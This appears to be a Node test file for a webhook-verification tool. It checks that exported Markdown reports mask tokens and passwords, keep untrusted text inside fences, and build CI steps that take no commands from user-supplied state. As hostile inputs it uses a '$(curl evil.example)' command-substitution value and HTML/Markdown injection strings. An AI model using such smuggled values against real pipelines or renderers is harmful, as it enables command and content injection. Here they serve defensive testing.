// What is copied as text holds no secret, and is text to whoever shows it.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { parse } from 'yaml';

import { shipped } from '../../pkg/api/node.js';
import { loaded } from './loaded.js';

const { ciStep, initialState, markdown } = await loaded('www/src/state.ts', 'www/src/share/copy.ts');

const { contract, files } = await shipped.contract('sub2api');
const contracts = { sub2api: { summary: '', files: { ...files, 'contract.json': JSON.stringify(contract) } } };
const now = 1717029588;
const base = () => ({ ...initialState(), contract: { shipped: 'sub2api', files: {} } });
const verdict = {
  schemaVersion: 1,
  contract: 'sub2api',
  verdict: 'reject',
  status: 401,
  stages: [
    { stage: 'request', result: 'pass' },
    { stage: 'signature', result: 'fail' },
    { stage: 'freshness', result: 'skipped' },
  ],
  findings: [
    {
      code: 'signature-mismatch',
      stage: 'signature',
      severity: 'error',
      message: 'no signature\n```\n<img src=x> @someone',
      at: 'header:x-cs-signature',
      help: 'ask',
    },
  ],
};
const mends = { express: 'use raw', fastify: 'use raw', hono: 'other' };
const diagnosis = {
  schemaVersion: 1,
  holds: false,
  causes: [{ id: 'body-reserialised', proved: true, edits: 2, at: 'body', message: 'parsed', mends }],
  suspects: [],
  tried: 3,
  capped: false,
};

test('a report has the verdict, the stages, the findings, the cause and the message, masked', async () => {
  const state = base();
  state.message.text =
    'POST /hook?token=abcd1234 HTTP/1.1\r\nX-CS-Signature: 9f2c4b1a77e1\r\nAuthorization: Bearer ' +
    'abcdef123456\r\n\r\n{"a":"````","password":"hunter2"}';
  const text = await markdown({ state, contracts, verdict, diagnosis, now, version: '0.1.0' });
  for (const part of [
    '`sub2api` **reject** 401',
    '| signature | ✗ fail |',
    'error[signature-mismatch] header:x-cs-signature',
    'proved[body-reserialised] body: parsed',
    '  express, fastify: use raw',
    'X-CS-Signature: [masked]',
    'Bearer [redacted]',
    '`````http',
    '2024-05-30T00:39:48Z',
    '0.1.0',
  ]) {
    assert.ok(text.includes(part), `${part}\n${text}`);
  }
  assert.doesNotMatch(text, /abcd1234|9f2c4b1a|abcdef123456|hunter2/);
});

test('what others wrote stands in fences alone', async () => {
  const state = base();
  const hostile = '````\n</details><img src="https://evil.example/x">\n~~~~ @team [a](https://evil.example)';
  state.message.text = `POST / HTTP/1.1\n\n${hostile}`;
  state.contract.files = { [`a\`\`.rego ${hostile}`]: hostile };
  for (const mode of ['webhook', 'deployment']) {
    const one = {
      ...state,
      mode,
      deployment: {
        documents: hostile,
        packs: [hostile],
        policy: { [hostile]: hostile },
        data: hostile,
        params: hostile,
      },
    };
    assert.doesNotMatch(outside(await markdown({ state: one, contracts, verdict, now, version: '0' })), /evil|<|@|~~~/);
  }
});

/** What of Markdown is neither in a fence nor in a code span. */
function outside(text) {
  const out = [];
  let fence;
  for (const line of text.split('\n')) {
    const marks = /^(`{3,})\w*$/.exec(line)?.[1];
    if (fence === undefined && marks) fence = marks;
    else if (fence !== undefined && line === fence) fence = undefined;
    else if (fence === undefined) out.push(line.replace(/(?<!`)(`+)(?!`).*?[^`]\1(?!`)/g, ''));
  }
  assert.equal(fence, undefined, 'a fence is open');
  return out.join('\n');
}

test('a deployment has its documents and Rego, and no secret of them', async () => {
  const state = { ...initialState(), mode: 'deployment' };
  state.deployment = {
    ...state.deployment,
    documents: 'apiVersion: v1\nkind: Secret\nstringData:\n  a: hunter2\n',
    policy: { 'a.rego': 'package a' },
  };
  const report = {
    schemaVersion: 1,
    verdict: 'fail',
    counts: {},
    findings: [{ code: 'policy-x', rule: 'a', severity: 'error', message: 'm', at: '/spec', document: 1 }],
  };
  const text = await markdown({ state, contracts, verdict: report, now, version: '0' });
  assert.match(text, /kind: Secret/);
  assert.match(text, /package a/);
  assert.match(text, /error\[policy-x\] #1 \/spec: m/);
  assert.doesNotMatch(text, /hunter2/);
});

test('a long body is cut', async () => {
  const state = base();
  state.message.text = `POST / HTTP/1.1\n\n${'a '.repeat(250_000)}`;
  assert.ok((await markdown({ state, contracts, verdict, now, version: '0' })).length < 8000);
});

test('a step reads its keys from secrets of the repository', () => {
  const [step] = parse(ciStep({ state: base(), contracts, now, keyIds: ['2026-10', undefined] }));
  assert.equal(
    step.run,
    'npx countersign verify tests/webhooks/sub2api-case --key-env 2026-10=WEBHOOK_SECRET --key-env WEBHOOK_SECRET_2 ' +
      '-f json --fail-on never | diff tests/webhooks/sub2api-case/verdict.json -',
  );
  assert.deepEqual(step.env, {
    // biome-ignore-start lint/suspicious/noTemplateCurlyInString: GitHub's own placeholders
    WEBHOOK_SECRET: '${{ secrets.WEBHOOK_SECRET }}',
    WEBHOOK_SECRET_2: '${{ secrets.WEBHOOK_SECRET_2 }}',
    // biome-ignore-end lint/suspicious/noTemplateCurlyInString: GitHub's own placeholders
  });
  assert.equal(parse(ciStep({ state: base(), contracts, now, published: true }))[0].env, undefined);
});

test('nothing of a state that somebody sent becomes a command', () => {
  const evil = '$(curl evil.example)';
  const state = { ...base(), mode: 'deployment' };
  state.deployment = {
    documents: evil,
    packs: ['kubernetes', evil],
    policy: { [evil]: evil },
    data: evil,
    params: evil,
  };
  const [step] = parse(ciStep({ state, contracts, now }));
  assert.equal(
    step.run,
    'npx countersign check --pack kubernetes --pack ./tests/webhooks/deployment-check/policy --data ' +
      `tests/webhooks/deployment-check/data.json --now ${now} tests/webhooks/deployment-check/input.yaml`,
  );
  const named = { ...base(), contract: { files: { 'contract.json': JSON.stringify({ contract: evil }) } } };
  assert.doesNotMatch(ciStep({ state: named, contracts, now, keyIds: [evil] }), /evil/);
});
